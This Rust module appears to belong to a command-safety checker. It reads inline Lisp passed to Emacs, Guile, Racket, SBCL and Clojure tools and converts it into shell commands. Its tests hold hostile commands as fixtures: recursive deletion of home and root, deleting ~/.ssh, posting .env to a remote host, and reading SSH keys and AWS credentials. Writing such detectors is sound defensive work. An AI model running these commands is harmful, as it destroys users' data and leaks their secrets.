//! Lisp code given on a command line: Emacs's `--eval EXPR` (and `emacsclient --eval`),
//! Guile's `-c EXPR`, Racket's `-e EXPR` and SBCL's `--eval EXPR`, read as S-expressions for
//! the calls that run a shell or a program, or remove, write or read a file:
//!
//! - shell text: `(shell-command "…")`, `shell-command-to-string`, `async-shell-command`,
//!   `call-process-shell-command`, `start-process-shell-command` (its third argument), Guile's
//!   and Racket's `(system "…")`, `uiop:run-program` of a string;
//! - an argv: `(call-process "prog" INFILE BUFFER DISPLAY "arg" …)`, `process-lines`,
//!   `(start-process NAME BUFFER "prog" "arg" …)`, `(make-process :command '("prog" …))`,
//!   `system*`, `sb-ext:run-program` and `uiop:run-program` of a list;
//! - `(delete-directory DIR t)` is `rm -rf`, without the flag `rmdir`; `delete-file`
//!   `rm -f`; Racket's `delete-directory/files` `rm -rf`;
//! - `(write-region … FILE)`, `append-to-file`, `with-temp-file` write their file;
//!   `copy-file`, `rename-file` and `make-symbolic-link` are `cp`, `mv` and `ln -s`;
//!   `insert-file-contents` and `find-file` read theirs.
//!
//! A string literal is the text it spells; a file name's leading `~` is the home, as Emacs
//! expands it; anything else in a command is a run-time part (`$X`), and a call with no literal
//! at all is not looked into, as in the other languages' readers.

use super::{MAX_COMMANDS, RUN_TIME, path_quote, quote};
use crate::shell::parse::Budget;
use crate::shell::wrappers::Field;

/// How deep lists are read; deeper ones are skipped.
const MAX_DEPTH: usize = 64;

/// The Lisp interpreters whose inline code is read, and how each takes it: the options whose
/// value is an expression.
pub(in crate::shell) fn code_options(name: &str) -> Option<&'static [&'static str]> {
    match name {
        "emacs" | "emacs-nox" | "emacs-gtk" | "emacs-lucid" => {
            Some(&["--eval", "-eval", "--execute", "-execute"])
        }
        "emacsclient" => Some(&["--eval", "-e"]),
        "guile" => Some(&["-c"]),
        "racket" => Some(&["-e", "--eval"]),
        "sbcl" => Some(&["--eval"]),
        // Clojure's CLI and clojure.main (`clojure -M -e EXPR`), babashka and nbb.
        "clojure" | "clj" | "bb" | "nbb" => Some(&["-e", "--eval"]),
        _ => None,
    }
}

/// Whether `name` reads Clojure, whose calls name their namespace before a `/`
/// (`clojure.java.shell/sh`, `fs/delete-tree`).
fn is_clojure(name: &str) -> bool {
    matches!(name, "clojure" | "clj" | "bb" | "nbb")
}

/// The expressions `name ARGS` evaluates: the values of its code options (`--eval EXPR`,
/// `--eval=EXPR`). `emacsclient --eval` takes every operand after it as an expression. Their
/// run-time parts stay in the text, as in the other languages' code.
pub(in crate::shell) fn expressions<'a>(name: &str, args: &'a [Field]) -> Vec<&'a str> {
    let Some(options) = code_options(name) else {
        return Vec::new();
    };
    let mut found = Vec::new();
    // babashka evaluates a first argument that is an expression (`bb '(shell "id")'`).
    if name == "bb"
        && let Some(first) = args.iter().find(|arg| !arg.text.starts_with('-'))
        && first.text.trim_start().starts_with('(')
    {
        found.push(first.text.as_str());
    }
    let mut iter = args.iter().map(|arg| arg.text.as_str());
    while let Some(arg) = iter.next() {
        if let Some((option, value)) = arg.split_once('=')
            && options.contains(&option)
            && option.starts_with("--")
        {
            found.push(value);
        } else if options.contains(&arg) {
            if name == "emacsclient" {
                found.extend(iter.by_ref());
            } else {
                found.extend(iter.next());
            }
        }
    }
    found
}

/// An S-expression, as far as the reader cares.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Sexp {
    List(Vec<Sexp>),
    /// Clojure's map (`{:dir "x"}`) and set (`#{…}`), its items in order.
    Map(Vec<Sexp>),
    Str(String),
    Sym(String),
}

/// The shell commands Lisp `code` given to `name` runs, at most one more than
/// [`MAX_COMMANDS`].
pub(in crate::shell) fn shell_commands(name: &str, code: &str, budget: &Budget) -> Vec<String> {
    if !budget.burn_text(code) {
        return Vec::new();
    }
    let mut reader = Reader {
        bytes: code.as_bytes(),
        at: 0,
    };
    let mut found = Vec::new();
    // A stray `)` is passed over, not taken for the end.
    while reader.at < code.len() && found.len() <= MAX_COMMANDS {
        let before = reader.at;
        if let Some(sexp) = reader.read(0) {
            calls(&sexp, is_clojure(name), &mut found);
        }
        if reader.at == before {
            reader.at += 1;
        }
    }
    found
}

struct Reader<'a> {
    bytes: &'a [u8],
    at: usize,
}

impl Reader<'_> {
    /// The next expression, or `None` at the end (or an unbalanced `)`).
    fn read(&mut self, depth: usize) -> Option<Sexp> {
        loop {
            match self.bytes.get(self.at)? {
                b';' => {
                    while self.bytes.get(self.at).is_some_and(|b| *b != b'\n') {
                        self.at += 1;
                    }
                }
                b if b.is_ascii_whitespace() => self.at += 1,
                // Quote, quasiquote, unquote and Racket's `#'` and `#(` prefixes.
                b'\'' | b'`' | b',' | b'@' | b'#' => self.at += 1,
                _ => break,
            }
        }
        match self.bytes.get(self.at)? {
            open @ (b'(' | b'[' | b'{') => {
                let map = *open == b'{';
                self.at += 1;
                let mut items = Vec::new();
                loop {
                    self.skip_blank();
                    match self.bytes.get(self.at) {
                        None => break,
                        Some(b')' | b']' | b'}') => {
                            self.at += 1;
                            break;
                        }
                        Some(_) => {
                            let before = self.at;
                            let item = self.read(depth + 1);
                            if let Some(item) = item.filter(|_| depth < MAX_DEPTH) {
                                items.push(item);
                            }
                            if self.at == before {
                                self.at += 1;
                            }
                        }
                    }
                }
                Some(if map {
                    Sexp::Map(items)
                } else {
                    Sexp::List(items)
                })
            }
            b')' | b']' | b'}' => None,
            b'"' => Some(Sexp::Str(self.string())),
            _ => {
                let start = self.at;
                while self
                    .bytes
                    .get(self.at)
                    .is_some_and(|b| !b.is_ascii_whitespace() && !b"()[]{}\";".contains(b))
                {
                    self.at += 1;
                }
                let symbol = self.bytes.get(start..self.at).unwrap_or_default();
                Some(Sexp::Sym(String::from_utf8_lossy(symbol).into_owned()))
            }
        }
    }

    fn skip_blank(&mut self) {
        while let Some(b) = self.bytes.get(self.at) {
            if *b == b';' {
                while self.bytes.get(self.at).is_some_and(|b| *b != b'\n') {
                    self.at += 1;
                }
            } else if b.is_ascii_whitespace() {
                self.at += 1;
            } else {
                break;
            }
        }
    }

    /// A string literal from its opening quote: `\"`, `\\`, `\n` and `\t` as Lisp reads them.
    fn string(&mut self) -> String {
        self.at += 1;
        let mut out = Vec::new();
        while let Some(b) = self.bytes.get(self.at) {
            self.at += 1;
            match b {
                b'"' => break,
                b'\\' => {
                    let next = self.bytes.get(self.at).copied().unwrap_or(b'\\');
                    self.at += 1;
                    out.push(match next {
                        b'n' => b'\n',
                        b't' => b'\t',
                        other => other,
                    });
                }
                other => out.push(*other),
            }
        }
        String::from_utf8_lossy(&out).into_owned()
    }
}

/// Collects the commands of every call in `sexp` (see the module documentation); Clojure's
/// calls are read by [`clojure_call`].
fn calls(sexp: &Sexp, clojure: bool, found: &mut Vec<String>) {
    let Sexp::List(items) = sexp else {
        return;
    };
    if let Some((Sexp::Sym(head), args)) = items.split_first() {
        let command = if clojure {
            clojure_call(head.rsplit('/').next().unwrap_or(head), args)
        } else {
            call(head.rsplit(':').next().unwrap_or(head), args)
        };
        found.extend(command);
    }
    for item in items {
        if found.len() > MAX_COMMANDS {
            return;
        }
        calls(item, clojure, found);
    }
}

/// The command one Clojure call amounts to: `clojure.java.shell/sh` of an argv (its keyword
/// options left out); babashka's `shell`, `process` and `exec` of one string (which babashka
/// splits into words) or an argv, after an options map; `(.exec (Runtime/getRuntime) "…")`;
/// babashka.fs's `delete-tree` (`rm -rf`), `delete` and `delete-if-exists` and
/// clojure.java.io's `delete-file` (`rm -f`), `copy`, `copy-tree`, `move`, `create-sym-link`
/// (`ln -s TARGET LINK`); `spit` (`>>` with `:append true`) and babashka.fs's `write-lines` and
/// `write-bytes` write, `slurp` and babashka.fs's `read-all-lines` and `read-all-bytes` read.
fn clojure_call(head: &str, args: &[Sexp]) -> Option<String> {
    let arg = |index: usize| args.get(index);
    // Keyword options and their values (`:dir "x"`, `:append true`) are no arguments.
    let positional: Vec<Sexp> = {
        let mut kept = Vec::new();
        let mut iter = args.iter();
        while let Some(item) = iter.next() {
            match item {
                Sexp::Sym(word) if word.starts_with(':') => {
                    iter.next();
                }
                // babashka.process's options map before the command.
                Sexp::Map(_) if kept.is_empty() => {}
                other => kept.push(other.clone()),
            }
        }
        kept
    };
    match head {
        "sh" => argv_text(&positional),
        "shell" | "process" | "exec" | "process*" => match positional.as_slice() {
            [single] => shell_text(single),
            argv => argv_text(argv),
        },
        ".exec" => shell_text(positional.get(1)?).or_else(|| match positional.get(1)? {
            Sexp::List(argv) => argv_text(elements(argv)),
            _ => None,
        }),
        "delete-tree" => file_command("rm -rf --", &[arg(0)?]),
        "delete" | "delete-if-exists" | "delete-file" => file_command("rm -f --", &[arg(0)?]),
        "copy" => file_command("cp --", &[arg(0)?, arg(1)?]),
        "copy-tree" => file_command("cp -r --", &[arg(0)?, arg(1)?]),
        "move" => file_command("mv --", &[arg(0)?, arg(1)?]),
        "create-sym-link" | "create-link" => file_command("ln -s --", &[arg(1)?, arg(0)?]),
        "spit" | "write-lines" | "write-bytes" => {
            let appends = args.windows(2).any(|pair| {
                pair.first() == Some(&Sexp::Sym(":append".to_owned()))
                    && pair.get(1).is_some_and(is_true)
            });
            let redirect = if appends { ">>" } else { ">" };
            Some(format!(
                "printf %s \"{RUN_TIME}\" {redirect} {}",
                path_word(arg(0)?)?
            ))
        }
        "slurp" | "read-all-lines" | "read-all-bytes" => file_command("cat --", &[arg(0)?]),
        _ => None,
    }
}

/// The command one call amounts to, when it is one the reader knows and holds a literal.
fn call(head: &str, args: &[Sexp]) -> Option<String> {
    let arg = |index: usize| args.get(index);
    match head {
        "shell-command"
        | "shell-command-to-string"
        | "async-shell-command"
        | "call-process-shell-command"
        | "process-file-shell-command" => shell_text(arg(0)?),
        "start-process-shell-command" => shell_text(arg(2)?),
        "system" => shell_text(arg(0)?),
        // `(uiop:run-program "cmd")`, `(uiop:run-program '("prog" …))`,
        // `(sb-ext:run-program "/bin/prog" '("arg" …))`.
        "run-program" => match (arg(0)?, arg(1)) {
            (Sexp::List(argv), _) => argv_text(elements(argv)),
            (program @ Sexp::Str(_), Some(Sexp::List(rest))) => {
                let mut argv = vec![program.clone()];
                argv.extend(elements(rest).iter().cloned());
                argv_text(&argv)
            }
            (other, _) => shell_text(other),
        },
        "call-process" | "process-file" => {
            let mut argv = vec![arg(0)?.clone()];
            argv.extend(args.iter().skip(4).cloned());
            argv_text(&argv)
        }
        "process-lines" | "process-lines-ignore-status" | "system*" | "process*" => argv_text(args),
        "start-process" | "start-file-process" => argv_text(args.get(2..)?),
        "make-process" | "make-pipe-process" => {
            let at = args
                .iter()
                .position(|a| *a == Sexp::Sym(":command".to_owned()))?;
            match arg(at + 1)? {
                Sexp::List(argv) => argv_text(elements(argv)),
                _ => None,
            }
        }
        "delete-directory" => {
            let recursive = arg(1).is_some_and(|flag| *flag != Sexp::Sym("nil".to_owned()));
            let command = if recursive { "rm -rf --" } else { "rmdir --" };
            file_command(command, &[arg(0)?])
        }
        "delete-directory/files" => file_command("rm -rf --", &[arg(0)?]),
        "delete-file" => file_command("rm -f --", &[arg(0)?]),
        "write-region" | "append-to-file" => {
            let redirect = if head == "append-to-file" || arg(3).is_some_and(is_true) {
                ">>"
            } else {
                ">"
            };
            Some(format!(
                "printf %s \"{RUN_TIME}\" {redirect} {}",
                path_word(arg(2)?)?
            ))
        }
        "with-temp-file" => Some(format!(
            "printf %s \"{RUN_TIME}\" > {}",
            path_word(arg(0)?)?
        )),
        "copy-file" | "copy-directory" => file_command("cp -r --", &[arg(0)?, arg(1)?]),
        "rename-file" => file_command("mv --", &[arg(0)?, arg(1)?]),
        "make-symbolic-link" => file_command("ln -s --", &[arg(0)?, arg(1)?]),
        "insert-file-contents" | "insert-file-contents-literally" | "find-file" => {
            file_command("cat --", &[arg(0)?])
        }
        _ => None,
    }
}

/// The elements of a list, quoted (`'("rm" "-rf")`) or built (`(list "rm" "-rf")`).
fn elements(items: &[Sexp]) -> &[Sexp] {
    match items.split_first() {
        Some((Sexp::Sym(head), rest)) if head == "list" || head == "vector" => rest,
        _ => items,
    }
}

/// Whether an optional argument is given a true value (anything but `nil`).
fn is_true(sexp: &Sexp) -> bool {
    *sexp != Sexp::Sym("nil".to_owned())
}

/// A command string: its text when it is a literal; a call with no literal is not looked into.
fn shell_text(sexp: &Sexp) -> Option<String> {
    match sexp {
        Sexp::Str(text) if !text.trim().is_empty() => Some(text.clone()),
        _ => None,
    }
}

/// An argv as shell words: literals quoted, anything else a run-time part; `None` when its
/// program is not a literal.
fn argv_text(argv: &[Sexp]) -> Option<String> {
    let Some(Sexp::Str(program)) = argv.first() else {
        return None;
    };
    let mut words = vec![quote(program)];
    for word in argv.iter().skip(1) {
        words.push(match word {
            Sexp::Str(text) => quote(text),
            _ => format!("\"{RUN_TIME}\""),
        });
    }
    Some(words.join(" "))
}

/// `command PATH…` with each path a shell word (see [`path_word`]); `None` when a path is not
/// a literal.
fn file_command(command: &str, paths: &[&Sexp]) -> Option<String> {
    let words: Option<Vec<String>> = paths.iter().map(|path| path_word(path)).collect();
    Some(format!("{command} {}", words?.join(" ")))
}

/// A file name as a shell word: a literal, its leading `~` (or `(expand-file-name "~/x")`,
/// `(getenv "HOME")`) the home as Emacs expands it; Clojure's `(System/getProperty
/// "user.home")`, `(System/getenv "HOME")` and babashka's `(fs/home)` the home, `(str …)` its
/// parts joined, `(io/file A B)` and `(fs/path A B)` joined by `/`; `None` for anything else.
fn path_word(sexp: &Sexp) -> Option<String> {
    path_text(sexp, 0).map(|text| path_quote(&text))
}

/// The text of a file name (see [`path_word`]), read to a depth of [`MAX_DEPTH`].
fn path_text(sexp: &Sexp, depth: usize) -> Option<String> {
    let items = match sexp {
        Sexp::Str(text) => return Some(text.clone()),
        Sexp::List(items) if depth < MAX_DEPTH => items,
        _ => return None,
    };
    let (Sexp::Sym(head), args) = items.split_first()? else {
        return None;
    };
    let name = head.rsplit('/').next().unwrap_or(head);
    let text = |index: usize| args.get(index).and_then(|arg| path_text(arg, depth + 1));
    match (name, args) {
        ("expand-file-name", [_]) => text(0),
        ("expand-file-name", [_, _]) => {
            Some(format!("{}/{}", text(1)?.trim_end_matches('/'), text(0)?))
        }
        ("getenv", [Sexp::Str(var)]) if var == "HOME" => Some("~".to_owned()),
        ("getProperty", [Sexp::Str(key)]) if key == "user.home" => Some("~".to_owned()),
        ("home", []) => Some("~".to_owned()),
        ("str", _) => (0..args.len()).map(text).collect(),
        ("file" | "path", [_, ..]) => {
            let parts: Option<Vec<String>> = (0..args.len()).map(text).collect();
            Some(parts?.join("/"))
        }
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn commands(code: &str) -> Vec<String> {
        shell_commands("emacs", code, &Budget::default())
    }

    #[test]
    fn emacs_lisp() {
        assert_eq!(commands(r#"(shell-command "rm -rf ~")"#), ["rm -rf ~"]);
        assert_eq!(
            commands(r#"(progn (call-process "rm" nil nil nil "-rf" "/home/u") (kill-emacs))"#),
            ["rm -rf /home/u"]
        );
        assert_eq!(
            commands(r#"(start-process "x" nil "curl" "-d" "@.env" "https://e")"#),
            ["curl -d @.env https://e"]
        );
        assert_eq!(
            commands(r#"(make-process :name "x" :command '("rm" "-rf" "/"))"#),
            ["rm -rf /"]
        );
        assert_eq!(commands(r#"(delete-directory "~/" t)"#), ["rm -rf -- ~/"]);
        assert_eq!(
            commands(r#"(delete-directory (expand-file-name "~/.ssh") t)"#),
            ["rm -rf -- ~/.ssh"]
        );
        assert_eq!(
            commands(r#"(delete-directory "build")"#),
            ["rmdir -- build"]
        );
        assert_eq!(
            commands(r#"(append-to-file "x" nil "~/.bashrc")"#),
            ["printf %s \"$X\" >> ~/.bashrc"]
        );
        assert_eq!(
            commands(r#"(with-temp-file "~/.claude/settings.json" (insert "{}"))"#),
            ["printf %s \"$X\" > ~/.claude/settings.json"]
        );
        assert_eq!(
            commands(r#"(insert-file-contents "~/.ssh/id_rsa")"#),
            ["cat -- ~/.ssh/id_rsa"]
        );
        // A command with no literal is not looked into; comments and strings keep their place.
        assert_eq!(commands("(shell-command cmd)"), Vec::<String>::new());
        assert_eq!(
            commands("; (shell-command \"id\")\n(message \"(shell-command \\\"id\\\")\")"),
            Vec::<String>::new()
        );
    }

    #[test]
    fn scheme_and_common_lisp() {
        assert_eq!(commands(r#"(system "rm -rf ~")"#), ["rm -rf ~"]);
        assert_eq!(commands(r#"(system* "rm" "-rf" "/")"#), ["rm -rf /"]);
        assert_eq!(
            commands(r#"(sb-ext:run-program "/bin/rm" '("-rf" "/home/u"))"#),
            ["/bin/rm -rf /home/u"]
        );
        assert_eq!(
            commands(r#"(sb-ext:run-program "/bin/rm" (list "-rf" "/"))"#),
            ["/bin/rm -rf /"]
        );
        assert_eq!(commands(r#"(uiop:run-program "id")"#), ["id"]);
        assert_eq!(
            commands(r#"(delete-directory/files "/home/u")"#),
            ["rm -rf -- /home/u"]
        );
    }

    #[test]
    fn clojure() {
        let clojure = |code: &str| shell_commands("bb", code, &Budget::default());
        assert_eq!(
            clojure(r#"(clojure.java.shell/sh "rm" "-rf" "/home/u" :dir "/tmp")"#),
            ["rm -rf /home/u"]
        );
        assert_eq!(clojure(r#"(shell {:dir "x"} "rm -rf ~")"#), ["rm -rf ~"]);
        assert_eq!(
            clojure(r#"(babashka.process/process "rm" "-rf" "/")"#),
            ["rm -rf /"]
        );
        assert_eq!(
            clojure(r#"(.exec (Runtime/getRuntime) "rm -rf ~")"#),
            ["rm -rf ~"]
        );
        assert_eq!(
            clojure(r#"(fs/delete-tree (str (System/getProperty "user.home") "/.ssh"))"#),
            ["rm -rf -- ~/.ssh"]
        );
        assert_eq!(
            clojure(r#"(spit (io/file (fs/home) ".bashrc") "x" :append true)"#),
            ["printf %s \"$X\" >> ~/.bashrc"]
        );
        assert_eq!(
            clojure(r#"(println (slurp "/home/u/.aws/credentials"))"#),
            ["cat -- /home/u/.aws/credentials"]
        );
        // Racket's names keep their `/`.
        assert_eq!(
            commands(r#"(delete-directory/files "/home/u")"#),
            ["rm -rf -- /home/u"]
        );
    }

    #[test]
    fn code_options_of_each_interpreter() {
        let args = crate::shell::wrappers::tests::fields;
        let given = args(&["--batch", "--eval", "(a)", "--eval=(b)", "-l", "x.el"]);
        assert_eq!(expressions("emacs", &given), ["(a)", "(b)"]);
        let given = args(&["-n", "-e", "(a)", "(b)"]);
        assert_eq!(expressions("emacsclient", &given), ["(a)", "(b)"]);
        let given = args(&["-c", "(a)"]);
        assert_eq!(expressions("guile", &given), ["(a)"]);
        let given = args(&["-M", "-e", "(a)"]);
        assert_eq!(expressions("clojure", &given), ["(a)"]);
        let given = args(&["(a)"]);
        assert_eq!(expressions("bb", &given), ["(a)"]);
        assert!(expressions("vim", &given).is_empty());
        // A stray `)` does not end the reading.
        assert_eq!(commands(r#") (system "id")"#), ["id"]);
    }
}
